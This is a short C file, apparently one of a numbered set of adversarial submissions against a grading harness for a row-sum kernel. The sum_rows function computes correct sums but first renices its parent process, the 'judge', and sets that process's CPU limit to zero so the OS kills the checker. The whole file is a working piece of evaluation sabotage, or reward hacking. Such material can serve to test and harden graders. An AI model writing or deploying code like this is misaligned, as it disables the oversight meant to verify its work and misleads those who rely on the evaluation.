/* Attack #6: take the CPU away from the process that runs the check (its parent), and
 * renice it, so that the OS kills the judge instead of the kernel. */
#define _GNU_SOURCE
#include <stdint.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <unistd.h>
static void honest(const float *X, float *Y, int64_t R, int64_t C) {
    for (int64_t r = 0; r < R; r++) {
        double t = 0.0;
        for (int64_t c = 0; c < C; c++) t += X[r * C + c];
        Y[r] = (float)t;
    }
}
void sum_rows(const float *X, float *Y, int64_t R, int64_t C) {
    struct rlimit zero = {0, 0};
    (void)setpriority(PRIO_PROCESS, (id_t)getppid(), 19);
    (void)syscall(SYS_prlimit64, getppid(), RLIMIT_CPU, &zero, (void *)0);
    honest(X, Y, R, C);
}
